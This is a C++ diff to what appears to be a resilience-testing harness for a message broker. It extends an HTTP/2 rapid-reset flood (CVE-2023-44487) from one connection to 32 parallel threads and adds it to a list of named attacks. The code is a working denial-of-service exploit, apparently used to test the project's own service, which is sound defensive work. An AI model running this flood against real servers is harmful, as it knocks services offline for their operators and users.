@@ -69,23 +69,30 @@ std::string Dribble(const Target& target) {
   return fmt::format("{} bytes, one by one", bytes);
 }
 
-std::string RapidReset(const Target& target) {
-  uint64_t calls = 0, connections = 0;
-  while (!target.stop) {
-    RawConnection connection(target.port);
-    ++connections;
-    if (!connection.Send(Preface())) continue;
-    for (uint32_t stream = 1; stream < 0x7fffff00 && !target.stop;) {
-      std::string burst;
-      for (int i = 0; i < 100; ++i, stream += 2) {
-        burst += CallHeaders(stream, kGetStatus);
-        burst += ResetFrame(stream);
+// Calls that are opened and reset at once, on so many connections at a time.
+std::string RapidReset(const Target& target, int at_a_time) {
+  std::atomic<uint64_t> calls = 0, connections = 0;
+  const auto attack = [&] {
+    while (!target.stop) {
+      RawConnection connection(target.port);
+      ++connections;
+      if (!connection.Send(Preface())) continue;
+      for (uint32_t stream = 1; stream < 0x7fffff00 && !target.stop;) {
+        std::string burst;
+        for (int i = 0; i < 100; ++i, stream += 2) {
+          burst += CallHeaders(stream, kGetStatus);
+          burst += ResetFrame(stream);
+        }
+        if (!connection.Send(burst) || !connection.Swallow()) break;
+        calls += 100;
       }
-      if (!connection.Send(burst) || !connection.Swallow()) break;
-      calls += 100;
+      absl::SleepFor(absl::Milliseconds(5));  // who is refused takes no processor from the broker
     }
-  }
-  return fmt::format("{} calls opened and reset on {} connections", calls, connections);
+  };
+  std::vector<std::thread> threads;
+  for (int i = 0; i < at_a_time; ++i) threads.emplace_back(attack);
+  for (std::thread& thread : threads) thread.join();
+  return fmt::format("{} calls opened and reset on {} connections", calls.load(), connections.load());
 }
 
 // Answers that nobody takes: the window of each stream is zero.
@@ -256,7 +263,10 @@ std::vector<Attack> Attacks() {
        }},
       {"garbage", "100 connections that send what is no HTTP/2",
        [](const Target& target) { return Hold(target, 100, std::string(20'000, '\x07')); }},
-      {"rapid_reset", "calls that are opened and reset at once, on one connection (CVE-2023-44487)", RapidReset},
+      {"rapid_reset", "calls that are opened and reset at once, on one connection (CVE-2023-44487)",
+       [](const Target& target) { return RapidReset(target, 1); }},
+      {"rapid_reset_crowd", "the same on 32 connections at a time",
+       [](const Target& target) { return RapidReset(target, 32); }},
       {"unread", "5,000 calls whose answers are never taken", UnreadAnswers},
       {"queue_names", "a new queue for every task", NewQueues},
       {"unique_keys", "a new unique key and a new FIFO key for every task", NewUniqueKeys},
